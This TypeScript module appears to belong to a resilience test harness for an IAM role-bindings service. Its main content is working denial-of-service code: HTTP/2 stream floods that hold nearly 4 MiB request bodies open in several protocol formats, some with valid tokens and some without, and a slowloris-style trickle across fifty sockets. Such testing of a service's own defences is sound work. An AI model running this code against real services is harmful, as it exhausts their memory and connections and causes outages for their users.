// Sends all of a large body but its last byte, on a hundred streams of each of
// several connections and from several addresses, with a valid token and
// without; and bodies that trickle. What is refused is sent again.
import type { ClientHttp2Session } from "node:http2";
import { connect, type Socket } from "node:net";
import { type Attack, Counts, pause, pick } from "../support/attack.js";
import { openSession } from "../support/grpc.js";
import type { Target } from "../support/world.js";

const MIB = 1024 * 1024;
const CONNECTIONS = 8;
const STREAMS = 100;
const BODY = 4 * MIB - 1_024;
const AGAIN_MS = 500;
const MAX_STREAMS = 20_000;
const TRICKLING = 50;
const TRICKLE_MS = 500;
const SERVICE = "/chainguard.platform.iam.v2beta1.RoleBindingsService";
// One buffer for all: what is held must be the service's memory, not the attacker's.
const FILLER = Buffer.alloc(BODY - 1 - 5, 0x0a);

interface Shape {
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  /** What precedes the filler. */
  readonly head: Buffer;
}

const grpcHead = Buffer.alloc(5);
grpcHead.writeUInt32BE(BODY - 5, 1);

const SHAPES: readonly Shape[] = [
  {
    path: `${SERVICE}/BatchCreateRoleBindings`,
    headers: { "content-type": "application/grpc", te: "trailers" },
    head: grpcHead,
  },
  {
    path: `${SERVICE}/BatchCreateRoleBindings`,
    headers: { "content-type": "application/proto", "connect-protocol-version": "1", "content-length": String(BODY) },
    head: Buffer.alloc(0),
  },
  {
    path: "/iam/v2beta1/roleBindings:batchCreate",
    headers: { "content-type": "application/json", "content-length": String(BODY) },
    head: Buffer.from("{    "),
  },
  {
    path: `${SERVICE}/BatchCreateRoleBindings`,
    headers: { "content-type": "application/grpc-web+proto" },
    head: grpcHead,
  },
];

export const attack: Attack = {
  async run(target, stop) {
    const counts = new Counts();
    await Promise.all([
      ...Array.from({ length: CONNECTIONS }, (_, i) => flood(target, i, counts, stop)),
      trickle(target, counts, stop),
    ]);
    return counts;
  },
};

async function flood({ url, addresses, token }: Target, i: number, counts: Counts, stop: AbortSignal): Promise<void> {
  const shape = pick(SHAPES, i);
  // Every fourth connection comes without a token.
  const bearer = i % 4 === 3 ? undefined : token;
  let session: ClientHttp2Session | undefined;
  let open = 0;
  for (let opened = 0; !stop.aborted && opened < MAX_STREAMS / CONNECTIONS; ) {
    if (session === undefined || session.closed || session.destroyed) {
      session?.destroy();
      session = openSession(url, pick(addresses, i));
      open = 0;
      counts.add("connections");
    }
    for (; open < STREAMS; opened++) {
      open++;
      counts.add("streams");
      const mine = session;
      const stream = session.request({
        ":method": "POST",
        ":path": shape.path,
        ...shape.headers,
        ...(bearer !== undefined && { authorization: `Bearer ${bearer}` }),
      });
      stream.on("error", () => {});
      stream.on("response", () => counts.add("refused"));
      stream.resume();
      stream.on("close", () => {
        if (session === mine) open--;
      });
      stream.write(shape.head);
      stream.write(FILLER);
    }
    await pause(AGAIN_MS, stop);
  }
  if (session !== undefined) await pause(60_000, stop);
  session?.destroy();
}

async function trickle({ url, addresses, token }: Target, counts: Counts, stop: AbortSignal): Promise<void> {
  const { host, port } = new URL(url);
  const sockets: Socket[] = [];
  for (let i = 0; i < TRICKLING && !stop.aborted; i++) {
    const socket = connect({ host: "127.0.0.1", port: Number(port), localAddress: pick(addresses, i) });
    socket.on("error", () => {});
    socket.resume();
    socket.write(
      `POST /iam/v2beta1/roleBindings:batchCreate HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${token}\r\n` +
        "Content-Type: application/json\r\nContent-Length: 200000\r\n\r\n{",
    );
    sockets.push(socket);
    counts.add("trickling");
  }
  while (!stop.aborted) {
    for (const socket of sockets) if (socket.writable) socket.write(" ");
    await pause(TRICKLE_MS, stop);
  }
  for (const socket of sockets) socket.destroy();
}
